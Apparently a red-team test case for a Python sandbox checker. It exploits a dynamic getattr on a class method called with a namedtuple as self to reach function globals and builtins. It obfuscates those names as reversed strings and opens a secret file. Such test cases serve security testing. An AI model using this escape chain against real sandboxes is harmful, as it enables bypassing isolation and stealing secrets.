# family: red team, round 22 (what a method's self may be: classes reaching parameters, methods run with any self)
# Chain: getattr(obj, "visit_" + kind) is accepted as a run-time name that can only be public
# (dynamic_names._safe_dynamic_name), and nothing records it in ctx.attribute_loads. Reading it off the class
# (getattr(Reader, "visit_" + kind)) gives the plain function Reader.visit_row unseen by objects.own_object;
# called with a namedtuple as self, its class-constant self.FIELDS is a run-time ["__globals__"].
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def visit_row(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out


Box = namedtuple("Box", "FIELDS")


def helper():
    return 1


def run(kind):
    box = Box(["".join(reversed("__slabolg__"))])
    method = getattr(Reader, "visit_" + kind)
    got = method(box, helper)[0]
    print(sorted(got.keys())[:8])
    b = got["".join(reversed("__snitliub__"))]
    print(b)
    print(getattr(b, "open")("/tmp/r22/work/secret.txt").read())


run("row")
